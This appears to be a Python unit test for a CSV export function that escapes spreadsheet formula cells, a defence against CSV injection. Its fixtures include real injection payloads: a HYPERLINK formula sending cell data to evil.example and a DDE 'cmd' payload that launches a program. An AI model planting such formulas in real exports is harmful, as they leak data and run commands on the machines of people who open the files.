"""CSV cells a spreadsheet could take for a formula are written as text (channels/web/console
/sheets.py); everything else is written as it is."""

from __future__ import annotations

import csv
import io

from channels.web.console.sheets import csv_text


def test_cells_that_start_like_a_formula_are_written_as_text() -> None:
    text = csv_text(["home", "proposal", "fee", "change"], [
        ["Larch House", '=HYPERLINK("http://evil.example/?"&A1,"Click")', 4350, -20],
        ["@SUM(1+1)", "+44 20 7946 0321", "-5", "\t=1+1"],
        ["-", "-1+2", "+5%", "-cmd|' /C calc'!A0"],
    ])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["home", "proposal", "fee", "change"],
        ["Larch House", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "4350", "-20"],
        ["'@SUM(1+1)", "'+44 20 7946 0321", "-5", "'\t=1+1"],
        ["-", "'-1+2", "+5%", "'-cmd|' /C calc'!A0"],
    ]
